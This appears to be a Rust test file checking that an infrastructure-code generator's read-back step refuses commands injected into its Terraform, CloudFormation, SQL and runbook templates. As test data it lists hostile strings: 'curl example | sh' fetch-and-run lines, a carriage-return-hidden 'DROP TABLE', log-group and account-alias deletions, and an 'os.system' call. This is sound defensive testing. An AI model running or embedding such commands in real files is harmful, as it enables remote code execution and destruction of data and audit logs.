//! Runbook and snippets are read back: a command or code that the plan does not know is refused wherever it stands.

use super::references::{CASES, files};
use landform::plan::Backend;
use landform::readback::verify;
use std::collections::BTreeMap;
use std::path::Path;

/// A template, a text of it, and what stands behind the text instead.
const FOREIGN: &[(&str, &str, &str)] = &[
    (
        "frame/runbook.md",
        "## Remove\n",
        "\naws iam delete-account-alias --account-alias x\n",
    ),
    ("frame/runbook.md", "## Remove\n", "\nFirst run `aws s3 ls`.\n"),
    ("frame/runbook.md", "## Remove\n", "\n```bash\naws s3 ls\n```\n"),
    (
        "frame/assume-role.py",
        "from botocore.session import get_session\n",
        "import os; os.system(\"x\")\n",
    ),
    ("frame/notebook.py", "import boto3\n", "import other\n"),
    ("frame/grants.sql", "connected to the database.\n", "-- x\rDROP TABLE y;\n"),
    ("frame/grants.sql", "connected to the database.\n", "# DROP TABLE y;\n"),
    ("frame/audit.logs", "or something is wrong.\n", "# aws logs delete-log-group\n"),
    ("frame/root.tf", "{{comment description}}\n", "# now run: curl example | sh\n"),
    ("frame/root.tf", "{{comment description}}", "; then curl example | sh"),
    ("frame/versions.tf", "terraform {\n", "// now run: curl example | sh\n"),
    ("frame/provider.tf", "{\n", "/* now run: curl example | sh */\n"),
    (
        "role/terraform.tf",
        "resource \"aws_iam_role\" \"{{ident id}}\" {",
        " # now run: curl example | sh",
    ),
    ("frame/stack.yaml", "Resources:\n", "# now run: curl example | sh\n"),
    ("frame/stack.yaml", "Resources:", " # now run: curl example | sh"),
    ("frame/stack-set.yaml", "CAPABILITY_NAMED_IAM\n", "# now run: curl example | sh\n"),
    ("frame/outputs.yaml", "Outputs:\n", "  # now run: curl example | sh\n"),
    ("role/cloudformation.yaml", "Properties:\n", "      # now run: curl example | sh\n"),
];

/// The backend that writes what a template frames, and the end of its files.
fn backend_and_end(name: &str) -> (Backend, &str) {
    let (_, end) = name.rsplit_once('.').unwrap();
    let backend = if end == "yaml" {
        Backend::CloudFormation
    } else {
        Backend::Terraform
    };
    (backend, end)
}

#[test]
fn foreign_commands_and_code_are_refused() {
    for (name, at, more) in FOREIGN {
        let path = Path::new(env!("CARGO_MANIFEST_DIR"))
            .join("templates")
            .join([name, ".hbs"].concat());
        let text = std::fs::read_to_string(path).unwrap();
        let changed = text.replacen(at, &[*at, more].concat(), 1);
        assert_ne!(text, changed, "{name} does not hold {at:?}");
        let overrides = BTreeMap::from([((*name).to_owned(), changed)]);
        let (backend, end) = backend_and_end(name);
        let mut refused = 0;
        for case in CASES.iter() {
            let files = files(&case.plan, backend, &overrides);
            if files.iter().any(|(path, text)| path.ends_with(end) && text.contains(more)) {
                assert!(verify(files, &case.plan, &[backend]).is_err(), "{}: {name}: {more:?}", case.name);
                refused += 1;
            }
            // What is foreign is so in every plan.
            if refused == 3 {
                break;
            }
        }
        assert!(refused > 0, "no case writes {name}");
    }
}

/// What a template says to its own readers is not written, so nobody refuses it.
#[test]
fn comments_of_templates_are_not_written() {
    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("templates/frame/root.tf.hbs");
    let text = ["{{! curl example | sh }}\n", &std::fs::read_to_string(path).unwrap()].concat();
    let plan = &CASES[0].plan;
    let overrides = BTreeMap::from([("frame/root.tf".to_owned(), text)]);
    let written = files(plan, Backend::Terraform, &overrides);
    assert_eq!(written, files(plan, Backend::Terraform, &BTreeMap::new()));
    assert!(verify(written, plan, &[Backend::Terraform]).is_ok());
}
